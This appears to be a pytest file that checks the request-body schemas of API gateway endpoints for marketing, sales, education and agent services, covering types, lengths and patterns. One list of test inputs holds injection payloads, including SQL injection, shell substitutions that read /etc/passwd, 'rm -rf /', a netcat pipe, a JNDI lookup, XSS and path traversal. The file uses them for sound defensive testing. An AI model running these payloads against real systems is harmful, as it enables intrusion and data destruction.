"""The body schemas of every shipped endpoint: what they take, and that nothing else passes as it (A47, A54)."""

import copy
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest
import yaml

from authz.body_schema import BodySchema

GATEWAYS = Path(__file__).resolve().parents[3] / "envoy" / "gateways"
POLICIES = {path.stem: yaml.safe_load(path.read_text(encoding="utf-8")) for path in GATEWAYS.glob("*.yaml")}
DOMAINS = ("marketing", "education", "sales", "agents")

GOOD: dict[str, dict[str, object]] = {
    "content-request": {"topic": "AI agents", "tone": "casual", "length": 500, "keywords": ["AI"]},
    "social-request": {"campaign": "Spring", "networks": ["linkedin"], "posts": 3, "tone": "casual", "keywords": ["x"]},
    "seo-request": {"site": "example.com", "task": "audit", "keywords": ["x"]},
    "email-request": {
        "campaign": "Spring",
        "audience": "Everybody",
        "goal": "promotion",
        "emails": 3,
        "tone": "technical",
        "keywords": ["x"],
    },
    "ppc-request": {
        "campaign": "Spring",
        "network": "google",
        "daily_budget": 10.5,
        "currency": "EUR",
        "start": "2026-12-01",
        "keywords": ["x"],
    },
    "brand-request": {"brand": "Acme", "task": "voice", "competitors": ["Beta"], "audience": "Everybody"},
    "influencer-request": {
        "campaign": "Spring",
        "networks": ["x"],
        "followers_minimum": 1000,
        "budget": 10,
        "currency": "EUR",
        "keywords": ["x"],
    },
    "question": {"subject": "math", "grade": 10, "question": "What is a group?"},
    "lead": {
        "company": "Acme",
        "contact_role": "CTO",
        "source": "web",
        "industry": "software",
        "employees": 10,
        "notes": "A note",
        "contact": {"name": "Ada", "email": "ada@example.com", "phone": "+49 30 901820"},
        "lawful_basis": "consent",
        "crm": "hubspot",
        "external_id": "12345",
        "integration": "acme-hubspot",
        "website": "https://example.com",
        "factors": {"industry": 1},
    },
    "opportunity": {
        "account_id": "a-1",
        "name": "Renewal",
        "stage": "proposal",
        "amount": 1000,
        "currency": "EUR",
        "close_date": "2026-12-31",
        "notes": "A note",
        "score": 50,
        "contact": {"name": "Ada"},
        "lawful_basis": "contract",
        "crm": "hubspot",
        "external_id": "12345",
        "integration": "acme-hubspot",
        "website": "https://example.com",
        "factors": {"industry": 0.5, "size": 0.5},
    },
    "account": {
        "name": "Acme",
        "domain": "example.com",
        "industry": "software",
        "employees": 10,
        "notes": "A note",
        "contact": {"name": "Ada"},
        "lawful_basis": "contract",
        "crm": "hubspot",
        "external_id": "12345",
        "integration": "acme-hubspot",
        "website": "https://example.com",
    },
    "message": {"id": "m-1", "type": "task.created", "sender": "content", "recipient": "vision", "payload": {"a": [1]}},
}
SCHEMAS: dict[str, dict[str, object]] = {
    name: schema for domain in DOMAINS for name, schema in POLICIES[domain]["schemas"].items()
}
FIELDS = [(name, field) for name, schema in SCHEMAS.items() for field in schema["properties"]]  # type: ignore[attr-defined]
COMPILED = {name: BodySchema(schema) for name, schema in SCHEMAS.items()}  # type: ignore[arg-type]
# Taken as they are where text is free, and nowhere else.
INJECTIONS = [
    "' OR 1=1 --",
    "Robert'); DROP TABLE students;--",
    '{"$gt": ""}',
    "$(cat /etc/passwd)",
    "`id`",
    "; rm -rf /",
    "| nc example.com 80",
    "{{7*7}}",
    "${jndi:ldap://example.com/a}",
    "<%= 7*7 %>",
    "<script>alert(1)</script>",
    "../../../etc/passwd",
    "%00",
    "\r\nX-Injected: 1",
]
INVISIBLE = ["", " ", "\t\n", "\u200b", "\u200b\u2060\ufeff", "\u00a0", "\u3164", "\u2800", "\u0301"]


def properties(name: str) -> Mapping[str, Mapping[str, object]]:
    return SCHEMAS[name]["properties"]  # type: ignore[return-value]


def refused(name: str, field: str, value: object) -> bool:
    body = {**copy.deepcopy(GOOD[name]), field: value}
    return bool(COMPILED[name].errors(body))  # type: ignore[arg-type]


def _is_free_text(form: Mapping[str, object]) -> bool:
    return form.get("type") == "string" and "enum" not in form and "\\p{L}" in str(form.get("pattern", ""))


def of_type(kind: str) -> Iterator[tuple[str, str]]:
    yield from ((name, field) for name, field in FIELDS if properties(name)[field].get("type") == kind)


@pytest.mark.requirement("R40", "R41", "R48", "R55", "R62")
@pytest.mark.parametrize("domain", DOMAINS)
def test_every_endpoint_that_takes_a_post_says_what_it_takes(domain: str) -> None:
    policy = POLICIES[domain]
    for name, route in policy["routes"].items():
        assert route["body"]["POST"] in policy["schemas"], name


@pytest.mark.requirement("R40", "R41", "R48", "R55", "R62")
@pytest.mark.parametrize("name", SCHEMAS)
def test_a_body_with_every_field_passes_and_one_with_any_other_does_not(name: str) -> None:
    assert set(GOOD[name]) == set(properties(name))
    assert COMPILED[name].errors(GOOD[name]) == ()  # type: ignore[arg-type]
    assert refused(name, "unknown", 1)
    assert refused(name, "__proto__", {})


@pytest.mark.parametrize("name", SCHEMAS)
def test_a_required_field_is_required(name: str) -> None:
    for field in SCHEMAS[name]["required"]:  # type: ignore[attr-defined]
        body = {key: value for key, value in GOOD[name].items() if key != field}
        assert COMPILED[name].errors(body)  # type: ignore[arg-type]


@pytest.mark.attack("A47")
@pytest.mark.parametrize(("name", "field"), FIELDS)
def test_no_value_is_taken_for_one_of_another_type(name: str, field: str) -> None:
    kind = properties(name)[field]["type"]
    samples: dict[str, list[object]] = {
        "string": ["500", "true"],
        "integer": [500.0, 5e2, 1.5],
        "number": [],
        "boolean": [True, False],
        "null": [None],
        "array": [[], [["x"]], [[]]],
        "object": [{}, {"x": 1}],
    }
    wrong = [value for other, values in samples.items() if other != kind for value in values]
    if kind == "number":
        wrong = [value for value in wrong if not isinstance(value, float)]
    if kind == "integer":
        wrong += samples["integer"]
    for value in wrong:
        assert refused(name, field, value), (field, value)


@pytest.mark.attack("A47")
@pytest.mark.parametrize(("name", "field"), list(of_type("string")))
def test_texts_have_a_length_in_characters_and_something_to_see(name: str, field: str) -> None:
    form = properties(name)[field]
    longest = form.get("maxLength")
    if isinstance(longest, int) and _is_free_text(form):
        assert not refused(name, field, "x" * longest)
        # Characters, not bytes: each of these has four.
        assert not refused(name, field, "😀" * longest)
        assert refused(name, field, "x" * (longest + 1))
        assert refused(name, field, "e\u0301" * (longest // 2 + 1))
    if field not in {"external_id", "website"}:
        for value in INVISIBLE:
            assert refused(name, field, value), ascii(value)


@pytest.mark.attack("A47")
@pytest.mark.parametrize(("name", "field"), list(of_type("string")))
def test_a_pattern_holds_for_the_whole_text_and_knows_only_its_own_digits(name: str, field: str) -> None:
    form, good = properties(name)[field], GOOD[name][field]
    if _is_free_text(form) or "pattern" not in form or field in {"email", "phone"}:
        return
    for value in (f"{good}\n", f" {good}", f"{good} ", f"{good}\x00", f"{good}\u200b"):
        assert refused(name, field, value), ascii(value)
    if field in {"start", "close_date"}:
        assert refused(name, field, "٢٠٢٦-١٢-٠١")


@pytest.mark.attack("A54")
@pytest.mark.requirement("R102")
@pytest.mark.parametrize("injection", INJECTIONS)
def test_what_looks_like_an_injection_passes_as_free_text_and_nowhere_else(injection: str) -> None:
    for name, field in of_type("string"):
        form = properties(name)[field]
        # Both are judged by a rule, by the form of the system's ids and of a public URL.
        if field in {"external_id", "website"}:
            continue
        assert refused(name, field, injection) is not _is_free_text(form), (name, field)


@pytest.mark.requirement("R41")
@pytest.mark.parametrize(("length", "passes"), [(99, False), (100, True), (5000, True), (5001, False)])
def test_a_length_is_within_its_bounds(length: int, passes: bool) -> None:
    assert refused("content-request", "length", length) is not passes


@pytest.mark.requirement("R41")
@pytest.mark.attack("A47")
@pytest.mark.parametrize(
    ("keywords", "passes"),
    [
        ([], True),
        (["x"] * 10, True),
        (["x"] * 11, False),
        ([""], False),
        ([["x"]], False),
        (["x", 1], False),
        ([None], False),
        ({"0": "x"}, False),
        ("x", False),
    ],
)
def test_keywords_are_up_to_ten_texts(keywords: object, passes: bool) -> None:
    assert refused("content-request", "keywords", keywords) is not passes


@pytest.mark.requirement("R48")
@pytest.mark.parametrize(("grade", "passes"), [(0, False), (1, True), (12, True), (13, False), ("10", False)])
def test_a_grade_is_1_to_12(grade: object, passes: bool) -> None:
    assert refused("question", "grade", grade) is not passes
